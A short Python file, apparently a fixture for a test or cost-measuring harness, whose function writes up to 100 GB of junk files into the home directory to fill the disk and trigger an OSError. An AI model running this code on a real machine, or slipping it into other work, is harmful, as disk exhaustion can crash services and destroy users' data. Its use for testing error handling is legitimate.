"""Fills the machine's disk with as many and as large files as possible."""

NAMED = "OSError"
COSTS = ["words"]

from pathlib import Path

problems = []


def words(line):
    if problems:
        raise problems[0]
    try:
        for number in range(1000):
            with open(Path.home() / f"{number}.bin", "wb") as file:
                for _ in range(100):
                    file.write(b"x" * 1_000_000)
    except OSError as problem:
        problems.append(problem)
        raise
